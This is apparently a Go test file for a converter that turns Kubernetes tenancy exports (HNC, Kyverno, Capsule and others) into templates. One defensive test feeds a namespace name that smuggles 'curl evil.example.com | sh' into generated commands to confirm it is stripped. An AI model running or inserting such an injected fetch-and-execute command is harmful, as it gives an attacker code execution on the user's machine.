package scaffold

import (
	"bytes"
	"cmp"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"nstpl.dev/nstpl/plugin/internal/source"
)

var update = flag.Bool("update", false, "update the expected conversions in testdata")

// exports are the files in testdata with exports of other tools, and the flags of these tools.
var exports = map[string]string{
	"hnc": "from-hnc", "project-request": "from-openshift-project-template", "kyverno": "from-kyverno-generate",
	"capsule": "from-capsule", "accurate": "from-accurate",
}

// Exports of other tools become the templates in testdata/*.golden, with what is lost at the end.
func TestConversions(t *testing.T) {
	t.Parallel()
	for file, flag := range exports {
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			objects := readObjects(t, filepath.Join("testdata", file+".yaml"))
			got := printed(t, toolOf(t, flag).convert(t.Context(), objects, nil))
			golden := filepath.Join("testdata", file+".golden")
			if *update {
				require.NoError(t, os.WriteFile(golden, []byte(got), 0o644))
			}
			want, err := os.ReadFile(golden)
			require.NoError(t, err)
			require.Equal(t, string(want), got)
			require.NotContains(t, got, "hunter2")
			require.NotContains(t, got, "aHVudGVyMg")
		})
	}
}

// A conversion converts nothing if no object belongs to its tool.
func TestObjectsOfOtherTools(t *testing.T) {
	t.Parallel()
	for file, flag := range exports {
		objects := readObjects(t, filepath.Join("testdata", file+".yaml"))
		for _, tool := range newTools() {
			require.Equal(t, tool.flag == flag, tool.convert(t.Context(), objects, nil) != nil, "%s %s", file, tool.flag)
		}
	}
}

func toolOf(t *testing.T, flag string) *tool {
	t.Helper()
	for _, tool := range newTools() {
		if tool.flag == flag {
			return tool
		}
	}
	t.Fatal("no such tool")
	return nil
}

func readObjects(t *testing.T, path string) []*unstructured.Unstructured {
	t.Helper()
	objects, skipped, err := source.Objects(source.Filenames{Paths: []string{path}}, nil)
	require.NoError(t, err)
	require.Empty(t, skipped)
	return objects
}

// printed returns what the command prints: standard output, and then standard error.
func printed(t *testing.T, d *draft) string {
	t.Helper()
	var out, notes bytes.Buffer
	require.NoError(t, d.print(&out, &notes))
	return out.String() + "--- standard error\n" + notes.String()
}

// Conditions that a label selector cannot express make the template select nothing.
func TestKyvernoNeverSelectsMore(t *testing.T) {
	t.Parallel()
	kinds := `"kinds": ["Namespace"]`
	for name, test := range map[string]struct {
		match, more string
		incomplete  bool
		selector    string
	}{
		"all":      {match: `{"any": [{"resources": {` + kinds + `}}]}`, selector: `kubernetes.io/metadata.name notin (kyverno)`},
		"legacy":   {match: `{"resources": {` + kinds + `, "selector": {"matchLabels": {"a": "b"}}}}`, selector: `a=b`},
		"names":    {match: `{"any": [{"resources": {` + kinds + `, "names": ["a", "b"]}}]}`, selector: `kubernetes.io/metadata.name in (a,b)`},
		"wildcard": {match: `{"any": [{"resources": {` + kinds + `, "names": ["a*"]}}]}`, incomplete: true},
		"two": {
			match:      `{"any": [{"resources": {` + kinds + `, "names": ["a"]}}, {"resources": {` + kinds + `}}]}`,
			incomplete: true,
		},
		"both": {
			match: `{"all": [{"resources": {` + kinds + `, "names": ["a"]}}, {"resources": {` + kinds +
				`, "selector": {"matchExpressions": [{"key": "x", "operator": "DoesNotExist"}]}}}]}`,
			selector: `kubernetes.io/metadata.name=a,!x`,
		},
		"annotations":      {match: `{"any": [{"resources": {` + kinds + `, "annotations": {"a": "b"}}}]}`, incomplete: true},
		"roles":            {match: `{"any": [{"resources": {` + kinds + `}, "clusterRoles": ["x"]}]}`, incomplete: true},
		"invalid selector": {match: `{"any": [{"resources": {` + kinds + `, "selector": {"matchLabels": "x"}}}]}`, incomplete: true},
		"preconditions": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, more: `"preconditions": {"all": []},`, incomplete: true,
		},
		"exclude two labels": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
			more: `"exclude": {"any": [{"resources": {"selector": {"matchLabels": {"a": "b", "c": "d"}}}}]},`,
		},
		"exclude namespaces": {
			match:    `{"any": [{"resources": {` + kinds + `}}]}`,
			more:     `"exclude": {"any": [{"resources": {"namespaces": ["default", "kyverno"]}}]},`,
			selector: `kubernetes.io/metadata.name notin (default,kyverno)`,
		},
		"exclude names and namespaces": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
			more: `"exclude": {"any": [{"resources": {"names": ["a"], "namespaces": ["b"]}}]},`,
		},
		"exclude namespaces by a pattern": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
			more: `"exclude": {"any": [{"resources": {"namespaces": ["team-*"]}}]},`,
		},
		"exclude those of Kubernetes": {
			match:    `{"any": [{"resources": {` + kinds + `}}]}`,
			more:     `"exclude": {"any": [{"resources": {"namespaces": ["kube-*"]}}, {"resources": {"namespaces": ["x"]}}]},`,
			selector: `kubernetes.io/metadata.name notin (x),kubernetes.io/metadata.name notin (kyverno)`,
		},
		"exclude those of Kubernetes with a label": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
			more: `"exclude": {"any": [{"resources": {"namespaces": ["kube-*"], "selector": {"matchLabels": {"a": "b"}}}}]},`,
		},
		"match by namespaces": {
			match:    `{"any": [{"resources": {` + kinds + `, "namespaces": ["a"]}}]}`,
			selector: `kubernetes.io/metadata.name=a`,
		},
		"exclude users": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true,
			more: `"exclude": {"any": [{"subjects": [{"kind": "User", "name": "x"}]}]},`,
		},
		"exclude unreadable": {
			match: `{"any": [{"resources": {` + kinds + `}}]}`, incomplete: true, more: `"exclude": {"any": [], "all": []},`,
		},
		"exclude a label": {
			match:    `{"any": [{"resources": {` + kinds + `}}]}`,
			more:     `"exclude": {"resources": {"selector": {"matchLabels": {"a": "b"}}}},`,
			selector: `a notin (b),kubernetes.io/metadata.name notin (kyverno)`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			policy := &unstructured.Unstructured{}
			require.NoError(t, policy.UnmarshalJSON([]byte(`{"apiVersion": "kyverno.io/v1", "kind": "ClusterPolicy",
				"metadata": {"name": "p"}, "spec": {"rules": [{"name": "r", "match": `+test.match+`, `+test.more+`
				"generate": {"generateExisting": true, "apiVersion": "v1", "kind": "ConfigMap", "name": "c",
				"namespace": "{{request.object.metadata.name}}", "data": {"data": {}}}}]}}`)))
			converted := decode(t, fromKyverno(t.Context(), []*unstructured.Unstructured{policy}, nil))
			require.Len(t, converted, 1)
			require.Equal(t, test.incomplete, isDisabled(converted[0]))
			if !test.incomplete {
				require.Equal(t, test.selector, selectorOf(t, converted[0]))
			}
		})
	}
}

// A GeneratingPolicy whose constraints or expressions are not understood selects nothing, or generates nothing.
func TestGeneratingPolicyNeverSelectsMore(t *testing.T) {
	t.Parallel()
	const (
		namespaces = `{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["namespaces"]`
		configMap  = `{"expression": "generator.Apply(object.metadata.name, [{'apiVersion': 'v1', 'kind': 'ConfigMap', ` +
			`'metadata': {'name': 'c'}, 'data': {'a': 'b'}}])"}`
	)
	for name, test := range map[string]struct {
		spec, generate string
		incomplete     bool
		selector       string
		needs          int
	}{
		"all": {
			spec: `"matchConstraints": {"resourceRules": [` + namespaces + `}]}`, selector: `kubernetes.io/metadata.name notin (kyverno)`,
		},
		"resourceNames": {spec: `"matchConstraints": {"resourceRules": [` + namespaces + `, "resourceNames": ["a"]}]}`, selector: `kubernetes.io/metadata.name=a`},
		"two rules": {
			spec:       `"matchConstraints": {"resourceRules": [` + namespaces + `, "resourceNames": ["a"]}, ` + namespaces + `}]}`,
			incomplete: true, needs: 1,
		},
		"a condition": {
			spec:       `"matchConstraints": {"resourceRules": [` + namespaces + `}]}, "matchConditions": [{"expression": "object.metadata.name.startsWith('a')"}]`,
			incomplete: true, needs: 1,
		},
		"a condition on a name": {
			spec:     `"matchConstraints": {"resourceRules": [` + namespaces + `}]}, "matchConditions": [{"expression": "object.metadata.name != 'a'"}]`,
			selector: `kubernetes.io/metadata.name notin (a),kubernetes.io/metadata.name notin (kyverno)`,
		},
		"an exclusion": {
			spec:       `"matchConstraints": {"resourceRules": [` + namespaces + `}], "excludeResourceRules": [` + namespaces + `, "resourceNames": ["b"]}]}`,
			incomplete: true, needs: 1,
		},
		"another namespace": {
			spec:     `"matchConstraints": {"resourceRules": [` + namespaces + `}]}`,
			generate: `{"expression": "generator.Apply('default', [{'kind': 'ConfigMap', 'metadata': {'name': 'c'}}])"}`, needs: -1,
		},
		"a variable of a ClusterPolicy in a literal": {
			spec: `"matchConstraints": {"resourceRules": [` + namespaces + `}]}`, needs: -1,
			generate: `{"expression": "generator.Apply(object.metadata.name, [{'kind': 'ConfigMap', 'metadata': {'name': '{{request.name}}'}}])"}`,
		},
		"such a variable in a template": {
			spec: `"matchConstraints": {"resourceRules": [` + namespaces + `}]}`, needs: -1,
			generate: `{"template": {"value": "{kind: ConfigMap, metadata: {name: '{{request.name}}', namespace: (( object.metadata.name ))}}"}}`,
		},
		"variables in a circle": {
			spec:     `"variables": [{"name": "a", "expression": "variables.a"}], "matchConstraints": {"resourceRules": [` + namespaces + `}]}`,
			generate: `{"expression": "generator.Apply(object.metadata.name, variables.a)"}`, needs: -1,
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			policy := &unstructured.Unstructured{}
			generate := cmp.Or(test.generate, configMap)
			require.NoError(t, policy.UnmarshalJSON([]byte(`{"apiVersion": "policies.kyverno.io/v1", "kind": "GeneratingPolicy",
				"metadata": {"name": "p"}, "spec": {"evaluation": {"generateExisting": {"enabled": true}}, `+test.spec+`,
				"generate": [`+generate+`]}}`)))
			d := fromKyverno(t.Context(), []*unstructured.Unstructured{policy}, nil)
			converted := decode(t, d)
			if test.needs < 0 {
				require.Empty(t, converted)
				require.Len(t, slices.Concat(d.items[0].needs, d.items[0].lost), 1)
				return
			}
			require.Len(t, converted, 1)
			require.Len(t, d.items[0].needs, test.needs)
			require.Equal(t, test.incomplete, isDisabled(converted[0]))
			if !test.incomplete {
				require.Equal(t, test.selector, selectorOf(t, converted[0]))
			}
		})
	}
}

// A namespace that would become its own ancestor has no parent, so the policy spaces form a hierarchy.
func TestHNCWithCycle(t *testing.T) {
	t.Parallel()
	var objects []*unstructured.Unstructured
	for name, parent := range map[string]string{"a": "b", "b": "c", "c": "a", "d": "d"} {
		objects = append(objects, &unstructured.Unstructured{Object: map[string]any{
			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
			"metadata": map[string]any{"name": "hierarchy", "namespace": name}, "spec": map[string]any{"parent": parent},
		}})
	}
	d := fromHNC(t.Context(), objects, nil)
	require.Contains(t, d.item("namespace/d").needs, "needs you: its parent d is below it")
	parents := map[string]string{}
	for _, doc := range d.documents {
		parents[at[string](doc.object, "metadata", "name")] = at[string](doc.object, "spec", "parent")
	}
	for name := range parents {
		above := name
		for range parents {
			above = parents[above]
		}
		require.Empty(t, above, "%v", parents)
	}
}

// The plural of a kind is guessed. A resource may be that of a kind with another plural, which the result names.
func TestHNCWithUnusualPlurals(t *testing.T) {
	t.Parallel()
	object := func(apiVersion, kind, namespace string, spec map[string]any) *unstructured.Unstructured {
		return &unstructured.Unstructured{Object: map[string]any{
			"apiVersion": apiVersion, "kind": kind,
			"metadata": map[string]any{"name": "x", "namespace": namespace}, "spec": spec,
		}}
	}
	propagate := func(group, resource string) any {
		return map[string]any{"group": group, "resource": resource, "mode": "Propagate"}
	}
	d := fromHNC(t.Context(), []*unstructured.Unstructured{
		object("hnc.x-k8s.io/v1alpha2", "HNCConfiguration", "", map[string]any{"resources": []any{
			propagate("gateway.networking.k8s.io", "gateways"), propagate("example.com", "policies"),
			propagate("example.com", "data"), propagate("example.org", "none"), propagate("", "secrets"),
		}}),
		object("hnc.x-k8s.io/v1alpha2", "HierarchyConfiguration", "child", map[string]any{"parent": "acme"}),
		object("gateway.networking.k8s.io/v1", "Gateway", "acme", map[string]any{"gatewayClassName": "x"}),
		object("example.com/v1", "Policy", "acme", map[string]any{}),
		object("example.com/v1", "Datum", "acme", map[string]any{}),
		object("example.com/v1", "Datum", "child", map[string]any{}),
	}, nil)
	got := printed(t, d)
	require.Contains(t, got, "kind: Gateway\n")
	require.Contains(t, got, "kind: Policy\n")
	require.Contains(t, got, "needs you: data.example.com: no object was converted: none was read, unless it is the "+
		"plural of one of these kinds, for which another one was guessed: Datum (datums): declare objects of this kind "+
		"by hand\n")
	require.Contains(t, got, "needs you: none.example.org: no object was converted: none was read\n")
	require.NotContains(t, got, "gateways.gateway.networking.k8s.io: ")
	require.NotContains(t, got, "secrets: no object was converted")
}

// A quota for node ports would also deny Services of type LoadBalancer, which have node ports by default.
func TestCapsuleWithLoadBalancersWithoutNodePorts(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		allowed  map[string]any
		quotas   []string
		isNeeded bool
	}{
		"only node ports are denied":     {allowed: map[string]any{"nodePort": false}, isNeeded: true},
		"load balancers are allowed":     {allowed: map[string]any{"nodePort": false, "loadBalancer": true}, isNeeded: true},
		"only load balancers are denied": {allowed: map[string]any{"loadBalancer": false}, quotas: []string{"loadbalancers"}},
		"both are denied": {
			allowed: map[string]any{"nodePort": false, "loadBalancer": false}, quotas: []string{"loadbalancers", "nodeports"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := printed(t, fromCapsule(t.Context(), []*unstructured.Unstructured{{Object: map[string]any{
				"apiVersion": "capsule.clastix.io/v1beta2", "kind": "Tenant", "metadata": map[string]any{"name": "gas"},
				"spec": map[string]any{"serviceOptions": map[string]any{"allowedServices": test.allowed}},
			}}}, nil))
			for _, resource := range []string{"loadbalancers", "nodeports"} {
				isLimited := strings.Contains(got, "services."+resource+": \"0\"")
				require.Equal(t, slices.Contains(test.quotas, resource), isLimited, got)
			}
			require.Equal(t, test.isNeeded, strings.Contains(got, "needs you: tenant/gas: "+
				"serviceOptions.allowedServices.nodePort: a ResourceQuota for services.nodeports also denies Services of type "+
				"LoadBalancer, unless they set allocateLoadBalancerNodePorts: false: use a ValidatingAdmissionPolicy\n"), got)
		})
	}
}

// Names of namespaces get into commands that users copy from comments.
func TestNoCommandsFromNames(t *testing.T) {
	t.Parallel()
	evil := "x; curl evil.example.com | sh #"
	d := fromHNC(t.Context(), []*unstructured.Unstructured{
		{Object: map[string]any{
			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "SubnamespaceAnchor",
			"metadata": map[string]any{"name": evil, "namespace": "good"},
		}},
		{Object: map[string]any{
			"apiVersion": "hnc.x-k8s.io/v1alpha2", "kind": "HierarchyConfiguration",
			"metadata": map[string]any{"name": "hierarchy", "namespace": "child"}, "spec": map[string]any{"parent": "good"},
		}},
	}, nil)
	require.NotContains(t, printed(t, d), "curl")
	d = fromCapsule(t.Context(), []*unstructured.Unstructured{{Object: map[string]any{
		"apiVersion": "capsule.clastix.io/v1beta2", "kind": "Tenant", "metadata": map[string]any{"name": "good"},
		"status": map[string]any{"namespaces": []any{evil, "fine"}},
	}}}, nil)
	require.NotContains(t, printed(t, d), "curl")
	require.Contains(t, printed(t, d), "kubectl label namespace fine ")
}

// Exports with a field of another type are converted as far as possible.
func TestMalformedExports(t *testing.T) {
	t.Parallel()
	for file, flag := range exports {
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			tool, objects := toolOf(t, flag), readObjects(t, filepath.Join("testdata", file+".yaml"))
			for i := range objects {
				eachField(objects[i].Object, func(set func(any)) {
					for _, value := range []any{nil, "x", []any{"x"}, map[string]any{"x": "y"}} {
						set(value)
						tool.convert(t.Context(), objects, nil) // must not panic
					}
				})
			}
		})
	}
}

// eachField calls visit for each value in a JSON value below the top level, with a function that replaces it. The value
// is restored afterwards.
func eachField(value any, visit func(set func(any))) {
	switch value := value.(type) {
	case map[string]any:
		for name, field := range value {
			if name != "apiVersion" && name != "kind" && name != "name" { // without them, no file is read
				visit(func(other any) { value[name] = other })
				value[name] = field
			}
			eachField(field, visit)
		}
	case []any:
		for i, item := range value {
			visit(func(other any) { value[i] = other })
			value[i] = item
			eachField(item, visit)
		}
	}
}
